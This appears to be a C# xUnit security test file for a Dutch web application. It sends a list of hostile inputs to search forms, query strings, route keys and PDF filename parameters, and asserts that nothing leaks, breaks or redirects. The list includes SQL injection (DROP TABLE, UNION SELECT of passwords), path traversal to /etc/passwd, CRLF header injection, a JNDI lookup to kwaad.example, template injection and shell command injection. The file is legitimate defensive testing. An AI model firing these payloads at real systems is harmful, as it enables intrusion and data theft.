using System.Net;
using Kring.TestSupport;
using Xunit;

namespace Kring.Web.Tests.Aanvallen;

/// <summary>What is no name, number or choice but a piece of a question to the database, a path or a format stays a text that finds nothing.</summary>
[Trait(Aanval.Categorie, Aanval.Naam)]
public sealed class BedorvenInvoerTests(Aanvalshost host) : IClassFixture<Aanvalshost>
{
    private static readonly string[] Bedorven =
    [
        "'", "\"", "' OR '1'='1", "'; DROP TABLE melding; --", "1; SELECT pg_sleep(9)", "') UNION SELECT wachtwoord FROM account --", "%' AND 1=1 --", "\\'", "%", "_", "[a-z]", "*",
        "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\boot.ini", "file:///etc/passwd", "%2e%2e%2f", "\0", "a\0b", "\ud800", "\u202e", "\r\nSet-Cookie: kring=x", "%0d%0aLocation: https://kwaad.example",
        "${jndi:ldap://kwaad.example/a}", "{{7*7}}", "${7*7}", "#{7*7}", "@(1+1)", "<%= 7*7 %>", "$(id)", "`id`", "| id", "; cat /etc/passwd",
        "99999999999999999999999", "-1", "0", "1e309", "NaN", "0x41", "2026-99-99", "9999999-01", "true", "null", "undefined", "[object Object]", "{\"$gt\":\"\"}", "http://kwaad.example/", "//kwaad.example", "javascript:alert(1)",
    ];

    private static readonly string[] Namen =
    [
        "van", "tot", "nummer", "lijst", "soort", "acuut", "nieuw", "toon", "Toon", "huishouden", "vervolg", "stap", "terug", "reden", "als", "kenmerk", "wie", "act", "recht", "handeling", "gelukt", "vanaf", "bladzijde", "zaak", "dag", "per",
        "gemeente", "onderwerp", "team", "wanneer", "overzicht", "handler", "volgende", "begin", "naar",
    ];

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    [Fact]
    public async Task In_de_zoekvraag_vindt_het_niets_en_breekt_het_niets()
    {
        var stand = await Stand.Van(host);
        using var vreemde = await Indringer.LogIn(host, host.Buitenstaanders[0]);
        using var hanneke = await Indringer.LogIn(host, Wereld.Hanneke);
        foreach (var waarde in Bedorven)
        {
            using var antwoord = await vreemde.Stuur("POST", "/zoeken", [("Vraag", waarde)]);
            Assert.True(antwoord.StatusCode is HttpStatusCode.OK or HttpStatusCode.BadRequest, $"{waarde} gave {(int)antwoord.StatusCode}");
            await Indringer.Zwijgt(antwoord, waarde);
            using var eigen = await hanneke.Stuur("POST", "/zoeken", [("Vraag", waarde)]);
            Assert.True(eigen.StatusCode is HttpStatusCode.OK or HttpStatusCode.BadRequest, $"{waarde} gave {(int)eigen.StatusCode}");
            Assert.False((await eigen.Content.ReadAsStringAsync(Ct)).Contains("Zwaluwdrift", StringComparison.Ordinal), $"{waarde} finds somebody");
            Telling.Poging(Aanval.Invoer, 2);
        }

        await stand.Onveranderd(host, "the attack");
    }

    [Fact]
    public async Task Achter_elk_adres_breekt_het_niets_en_toont_het_niets_meer()
    {
        var stand = await Stand.Van(host);
        using var vreemde = await Indringer.LogIn(host, host.Buitenstaanders[1]);
        using var marijke = await Indringer.LogIn(host, Wereld.Marijke);
        using var ruben = await Indringer.LogIn(host, Wereld.Ruben);
        var volg = 0;
        foreach (var weg in (await Wegen.Van(host)).Where(weg => weg.IsGet()))
        {
            foreach (var waarde in Enumerable.Range(0, 6).Select(_ => Bedorven[volg++ % Bedorven.Length]))
            {
                var achter = string.Join('&', Namen.Select(naam => $"{naam}={Codeer(waarde)}"));
                var wie = (volg % 3) switch { 0 => vreemde, 1 => marijke, _ => ruben };
                using var antwoord = await wie.Stuur("GET", $"{host.Doelwit.Pad(weg)}?{achter}");
                Assert.True((int)antwoord.StatusCode < 500, $"{weg.Sjabloon} with {waarde} gave {(int)antwoord.StatusCode}");
                Assert.False(antwoord.Headers.TryGetValues("Set-Cookie", out var koekjes) && koekjes.Any(een => een.StartsWith("kring=x", StringComparison.Ordinal)));
                Assert.DoesNotContain("kwaad.example", antwoord.Headers.Location is { IsAbsoluteUri: true } elders ? elders.Host : "", StringComparison.Ordinal);
                if (wie == vreemde)
                {
                    await Indringer.Zwijgt(antwoord, weg.Sjabloon);
                }

                Telling.Poging(Aanval.Invoer);
            }
        }

        await stand.Onveranderd(host, "the attack");
    }

    [Fact]
    public async Task In_plaats_van_een_sleutel_is_het_een_pagina_die_niet_bestaat()
    {
        using var marijke = await Indringer.LogIn(host, Wereld.Marijke);
        using var karin = await Indringer.LogIn(host, Wereld.Karin);
        var volg = 0;
        foreach (var weg in (await Wegen.Van(host)).Where(weg => weg.HeeftSleutel))
        {
            foreach (var waarde in Enumerable.Range(0, 6).Select(_ => Bedorven[volg++ % Bedorven.Length]).Where(waarde => waarde.Length > 1 && !waarde.Contains('\ud800', StringComparison.Ordinal) && !waarde.Contains('\0', StringComparison.Ordinal)))
            {
                using var antwoord = await (weg.MagDoor(Domain.Toegang.Rol.Beheerder) ? karin : marijke).Stuur(weg.Methode, weg.Vul((_, _) => waarde));
                Assert.True((int)antwoord.StatusCode is 400 or 403 or 404 || (weg.Sjabloon.StartsWith("/fout/", StringComparison.Ordinal) && (int)antwoord.StatusCode < 500), $"{weg} with {waarde} gave {(int)antwoord.StatusCode}");
                Telling.Poging(Aanval.Invoer);
            }
        }
    }

    [Fact]
    public async Task De_naam_van_een_uitgeleverd_bestand_volgt_het_zaaknummer_en_niet_wat_iemand_typt()
    {
        using var hanneke = await Indringer.LogIn(host, Wereld.Hanneke);
        foreach (var weg in new[] { $"/casussen/{host.Doelwit.Sleutels["casus"]}", $"/meldingen/{host.Doelwit.Sleutels["melding"]}", $"/brieven/{host.Doelwit.Sleutels["brief"]}", $"/casussen/{host.Doelwit.Sleutels["casus"]}/plan" })
        {
            foreach (var achter in new[] { "", "&naam=..%2f..%2fkwaad", "&bestand=kwaad.exe", "&filename=kwaad%0d%0aX-Kwaad:1" })
            {
                using var antwoord = await hanneke.Stuur("GET", $"{weg}?als=pdf{achter}");
                Assert.Equal(HttpStatusCode.OK, antwoord.StatusCode);
                Assert.Matches("^[a-z0-9-]+\\.pdf$", antwoord.Content.Headers.ContentDisposition!.FileName!.Trim('"'));
                Assert.DoesNotContain("kwaad", antwoord.Headers.ToString(), StringComparison.OrdinalIgnoreCase);
                Telling.Poging(Aanval.Invoer);
            }
        }
    }

    // Half of a surrogate cannot be written in an address; it is sent as the three bytes it would be.
    private static string Codeer(string waarde) => waarde == "\ud800" ? "%ED%A0%80" : Uri.EscapeDataString(waarde);
}
